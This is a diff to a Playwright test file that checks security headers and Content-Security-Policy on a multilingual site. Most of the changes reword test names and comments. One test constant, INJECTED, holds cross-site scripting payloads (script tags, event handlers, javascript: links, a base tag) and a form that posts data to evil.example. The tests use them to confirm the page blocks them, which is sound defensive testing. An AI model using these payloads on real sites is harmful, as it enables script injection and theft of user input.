@@ -1,9 +1,9 @@
-// Security headers on whatever the site answers: pages, errors, bytes and redirects alike.
+// Tests the security headers of every response: pages, errors, bytes and redirects.
 import { expect, test } from '@playwright/test'
 import { RECORDING_PERMISSIONS, SECURITY_HEADERS } from '#protocol/security-headers'
-import { newPhone } from './phone.ts'
-import { tracesOf } from './traffic.ts'
-import { LANGUAGES } from './words.ts'
+import { languages } from '#content/languages.ts'
+import { newPhone } from './support/phone.ts'
+import { tracesOf } from './support/traffic.ts'
 
 const GETS: [string, number][] = [
   ...[
@@ -41,7 +41,7 @@ const POSTS: [string, number][] = [
   ['/api/keys', 405],
 ]
 
-/** A voice is recorded on `tell`, and nowhere else. */
+/** Returns the headers of a path. Only `tell` may record a voice. */
 const expectedOf = (path: string): Readonly<Record<string, string>> => ({
   ...SECURITY_HEADERS,
   ...(path.endsWith('/tell/') && { 'Permissions-Policy': RECORDING_PERMISSIONS }),
@@ -52,7 +52,7 @@ for (const [method, cases] of [
   ['POST', POSTS],
 ] as const)
   for (const [path, status] of cases)
-    test(`R15: ${method} ${path} answers ${String(status)} with every header`, async ({
+    test(`R15: The response to ${method} ${path} is ${String(status)} with every header`, async ({
       request,
     }) => {
       const response = await request.fetch(path, {
@@ -80,7 +80,7 @@ for (const [method, cases] of [
       if (headers['content-type']?.startsWith('text/html') && path !== '/exit') {
         expect(policy).toContain("form-action 'self'")
         expect(policy).toContain("require-trusted-types-for 'script'")
-        // Hashes only; the staff page alone runs files of its own origin.
+        // A page allows hashes only. The staff page alone runs files of its own origin.
         const scripts = /script-src ([^;]*)/.exec(policy)?.[1] ?? ''
         if (!path.startsWith('/staff/')) expect(scripts).toMatch(/^('none'|('sha256-[^']+' ?)+)$/)
       }
@@ -89,14 +89,17 @@ for (const [method, cases] of [
         expect(headers['cache-control']).toContain('no-store')
     })
 
-/** Each would run, or send words elsewhere, on a page without a policy. */
-const INJECTED = `<script>window.ran = 1</script><img src=x onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>
-<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><script src="data:text/javascript,window.ran = 1"></script>
-<a id=injected href="javascript:window.ran = 1">x</a><base href="https://evil.example/"><style>html { color: rgb(1, 2, 3) }</style>
+/** Each element would run, or send words elsewhere, on a page without a policy. */
+const INJECTED = `<script>window.ran = 1</script>
+<img src=x onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>
+<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
+<script src="data:text/javascript,window.ran = 1"></script>
+<a id=injected href="javascript:window.ran = 1">x</a>
+<base href="https://evil.example/"><style>html { color: rgb(1, 2, 3) }</style>
 <form id=sent action="https://evil.example/" method=post><input name=a value=words></form>`
 
 for (const path of ['/ky/', '/ky/tell/', '/ru/answer/', '/en/help/', '/staff/'])
-  test(`R15: markup that is put into ${path} does not run, and sends nothing elsewhere`, async ({
+  test(`R15: Markup that is injected into ${path} does not run and sends nothing out`, async ({
     page,
   }) => {
     const refused: string[] = []
@@ -134,7 +137,7 @@ for (const path of ['/ky/', '/ky/tell/', '/ru/answer/', '/en/help/', '/staff/'])
     ).toEqual([])
   })
 
-test('/ goes to the language of the phone, and lets one choose when it speaks another', async ({
+test('The address / leads to the language of the phone, or offers a choice of languages', async ({
   request,
 }) => {
   const to = async (accept: string) => {
@@ -150,9 +153,9 @@ test('/ goes to the language of the phone, and lets one choose when it speaks an
   expect(await to('de')).toBe(200)
 })
 
-for (const lang of LANGUAGES)
+for (const lang of languages)
   for (const path of ['tell', 'answer', 'help', 'tell/sent'])
-    test(`R13, R14, R29: /${lang}/${path}/ is one request, and leaves nothing on the device`, async ({
+    test(`R13, R14, R29: The page /${lang}/${path}/ is one request and stores nothing`, async ({
       browser,
     }) => {
       const { context, page, sent } = await newPhone(browser)
